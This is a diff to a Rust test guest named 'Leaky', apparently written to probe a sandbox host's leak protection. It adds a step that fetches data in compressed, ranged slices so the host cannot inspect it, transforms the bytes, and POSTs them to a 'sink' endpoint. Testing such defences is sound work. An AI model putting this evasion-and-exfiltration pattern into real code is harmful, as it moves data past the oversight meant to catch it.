@@ -102,6 +102,18 @@ impl Guest for Leaky {
             b"",
         );
         log.push(format!("named: {s}"));
+        // 5. Ask the api for its echo in a coding the host cannot read
+        //    through (compressed, in slices), decode it here and send it on.
+        let (s, _, body) = request(
+            "GET",
+            &format!("{api}/coded"),
+            &[("accept-encoding", "gzip"), ("range", "bytes=2-")],
+            b"",
+        );
+        log.push(format!("coded: {s}"));
+        let decoded: Vec<u8> = body.into_iter().rev().collect();
+        let (s, _, _) = request("POST", &format!("{sink}/decoded"), &[], &decoded);
+        log.push(format!("decoded: {s}"));
         Ok(format!("{}\nlearned: {one_line}", log.join("\n")))
     }
 }
